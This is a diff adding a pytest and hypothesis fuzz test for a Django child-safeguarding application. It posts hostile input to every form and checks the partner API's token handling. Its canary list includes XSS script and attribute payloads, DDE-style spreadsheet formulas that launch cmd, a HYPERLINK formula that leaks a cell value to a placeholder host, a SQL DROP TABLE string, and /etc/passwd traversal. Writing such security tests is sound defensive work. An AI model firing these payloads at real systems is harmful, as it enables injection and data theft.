@@ -1,0 +1,233 @@
+"""Hostile input through every form and the partner API: no server error, no script echoed back.
+
+Every page in the product (``tests/test_every_url.py`` lists them, filled with a child
+the user may see) is opened as a MASH worker and as a practitioner; each POST form on
+it is found by reading the page, and hypothesis fills its fields with hostile text
+(script and attribute-breaking canaries, spreadsheet formulas, NUL and other control
+characters, right-to-left overrides, SQL, path traversal, impossible dates, very long
+and empty values, arbitrary Unicode). Every answer must be below 500 and must never
+contain a canary unescaped.
+
+``make test`` runs 2 examples a form (one of them every field set to the script
+canary), and every API operation without a token and with a wrong one. ``make fuzz``
+runs the forms with ``SAFEGUARD_FUZZ_EXAMPLES`` (default 40) and the partner API drill
+in ``test_fuzz_api.py``: schemathesis with every check and every phase.
+"""
+
+from __future__ import annotations
+
+import os
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from safeguard.core.models import Role
+from tests.factories import AgencyFactory, InvolvementFactory, PersonFactory
+from tests.test_every_url import all_paths
+
+SCRIPT = '<script>alert("sgfuzz")</script>'
+ATTRIBUTE = '"><img src=x onerror=alert("sgfuzz")>'
+CANARIES = [
+    SCRIPT,
+    ATTRIBUTE,
+    "javascript:alert('sgfuzz')",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"sgfuzz")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a\x00b",
+    "\x1b[31m\x07\x0b",
+    "\u202egnp.exe",
+    "'; DROP TABLE people_person; --",
+    "../../../../etc/passwd",
+    "31/02/2026",
+    "9999-99-99",
+    "-1",
+    "1e309",
+    "\ud83d\udc76" * 50,
+    "x" * 20_000,
+    "",
+    " ",
+]
+# Pages whose forms change the session itself rather than data.
+SKIP = {
+    "/sign-in/",
+    "/sign-in/two-factor/",
+    "/sign-out/",
+    "/session/keep-alive/",
+    "/account/two-factor/",
+}
+EXAMPLES = int(os.environ.get("SAFEGUARD_FUZZ_EXAMPLES", "2"))
+
+hostile_text = st.one_of(st.sampled_from(CANARIES), st.text(max_size=200))
+
+
+class _Forms(HTMLParser):
+    """The POST forms on a page: action, and each field's name with its possible values."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.forms: list[dict[str, Any]] = []
+        self._form: dict[str, Any] | None = None
+        self._select: str | None = None
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        a = {k: v or "" for k, v in attrs}
+        if tag == "form" and a.get("method", "get").lower() == "post":
+            self._form = {"action": a.get("action", ""), "fixed": {}, "choices": {}, "text": []}
+            self.forms.append(self._form)
+        if self._form is None or not a.get("name"):
+            if tag == "option" and self._form is not None and self._select:
+                self._form["choices"][self._select].append(a.get("value", ""))
+            return
+        name = a["name"]
+        kind = a.get("type", "text").lower()
+        if tag == "input" and kind in {"hidden", "submit"}:
+            self._form["fixed"][name] = a.get("value", "")
+        elif tag == "input" and kind in {"checkbox", "radio"}:
+            self._form["choices"].setdefault(name, []).append(a.get("value", "on"))
+        elif tag == "select":
+            self._select = name
+            self._form["choices"].setdefault(name, [])
+        elif tag in {"input", "textarea"} and name not in self._form["text"]:
+            self._form["text"].append(name)
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "form":
+            self._form = None
+        elif tag == "select":
+            self._select = None
+
+
+def _forms(client: Any, path: str) -> list[tuple[str, dict[str, Any]]]:
+    response = client.get(path)
+    if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
+        return []
+    parser = _Forms()
+    parser.feed(response.content.decode())
+    found = []
+    for form in parser.forms:
+        action = form["action"] or path
+        if not action.startswith("/") or action in SKIP:
+            continue
+        found.append((action, form))
+    return found
+
+
+def _strategy(form: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
+    fields: dict[str, st.SearchStrategy[Any]] = {
+        name: st.just(value)
+        for name, value in form["fixed"].items()
+        if name != "csrfmiddlewaretoken"
+    }
+    for name, values in form["choices"].items():
+        fields[name] = st.one_of(st.sampled_from(values or [""]), hostile_text)
+    for name in form["text"]:
+        fields[name] = hostile_text
+    return st.fixed_dictionaries(fields)
+
+
+def _assert_safe(response: Any, where: str) -> None:
+    assert response.status_code < 500, f"{where} answered {response.status_code}"
+    body = response.content
+    assert SCRIPT.encode() not in body, f"{where} echoed a script unescaped"
+    assert b'onerror=alert("sgfuzz")>' not in body, f"{where} echoed an attribute unescaped"
+
+
+def _fuzz_form(client: Any, user: Any, action: str, form: dict[str, Any]) -> None:
+    """Post hypothesis' hostile values to one form, signed in afresh each time."""
+    every_field_a_script = {
+        **{n: v for n, v in form["fixed"].items() if n != "csrfmiddlewaretoken"},
+        **{n: SCRIPT for n in [*form["text"], *form["choices"]]},
+    }
+
+    @settings(
+        max_examples=max(EXAMPLES - 1, 1),
+        deadline=None,
+        database=None,
+        suppress_health_check=list(HealthCheck),
+    )
+    @given(data=_strategy(form))
+    @example(data=every_field_a_script)
+    def post(data: dict[str, Any]) -> None:
+        client.force_login(user)
+        response = client.post(action, data)
+        _assert_safe(response, f"POST {action} as {sorted(user.role_codes())}")
+        if response.status_code == 302 and response["Location"].startswith("/"):
+            _assert_safe(client.get(response["Location"]), f"after POST {action}")
+
+    post()
+
+
+@pytest.fixture
+def users(make_user):
+    """A MASH worker and a practitioner who both see one child, and a concern in the MASH."""
+    from safeguard.frontdoor.categories import CATEGORIES
+    from safeguard.frontdoor.services.contacts import ChildDetails, contact_submit
+
+    mash_agency = AgencyFactory(name="Fuzz MASH", slug="fuzz-mash", is_mash=True)
+    mash = make_user(Role.MASH_WORKER, Role.MASH_MANAGER, agency=mash_agency)
+    practitioner = make_user(Role.PRACTITIONER, agency=mash_agency)
+    child = PersonFactory(given_name="Fuzz", family_name="Target")
+    InvolvementFactory(person=child, agency=mash_agency)
+    contact = contact_submit(
+        by=practitioner,
+        children=[ChildDetails(person_id=child.pk)],
+        categories=[CATEGORIES[0].code],
+        what_happened="Synthetic concern for the fuzz drill.",
+        happened_on=None,
+        child_voice="Synthetic.",
+        immediate_danger=False,
+        family_knows="",
+        consent="given",
+        referrer_name="Fuzz referrer",
+        referrer_email="fuzz@example.org",
+    )
+    return child, contact.reference, [mash, practitioner]
+
+
+@pytest.mark.django_db
+@pytest.mark.timeout(1800)
+def test_every_form_refuses_hostile_input_without_a_server_error_or_an_unescaped_echo(
+    users, signed_in
+):
+    child, reference, people = users
+    fuzzed: set[tuple[str, str]] = set()
+    paths = [p.replace("/mash/x/", f"/mash/{reference}/") for p in all_paths(str(child.pk))]
+    for user in people:
+        client = signed_in(user)
+        for path in paths:
+            if path in SKIP:
+                continue
+            for action, form in _forms(client, path):
+                key = (action, ",".join(sorted([*form["text"], *form["choices"]])))
+                if key in fuzzed:
+                    continue
+                fuzzed.add(key)
+                _fuzz_form(client, user, action, form)
+    assert len(fuzzed) >= 10, f"only {len(fuzzed)} forms found: {sorted(fuzzed)}"
+    if os.environ.get("SAFEGUARD_FUZZ_LIST"):
+        print(f"{len(fuzzed)} forms fuzzed:", *sorted(a for a, _ in fuzzed), sep="\n  ")  # noqa: T201
+
+
+@pytest.mark.django_db
+def test_the_api_answers_every_operation_without_a_token_or_with_a_wrong_one_with_401(client):
+    from safeguard.api.api import api
+
+    schema = api.get_openapi_schema(path_prefix="/api/v1/")
+    operations = [
+        (method, path)
+        for path, item in schema["paths"].items()
+        for method in item
+        if method in {"get", "post", "put", "patch", "delete"}
+    ]
+    assert operations
+    for method, path in operations:
+        url = path.replace("{reference}", "MASH-0000-000001")
+        for headers in ({}, {"HTTP_AUTHORIZATION": "Bearer not-a-real-token"}):
+            response = client.generic(
+                method.upper(), url, data=b"{}", content_type="application/json", **headers
+            )
+            assert response.status_code == 401, f"{method} {url} {headers}: {response.status_code}"
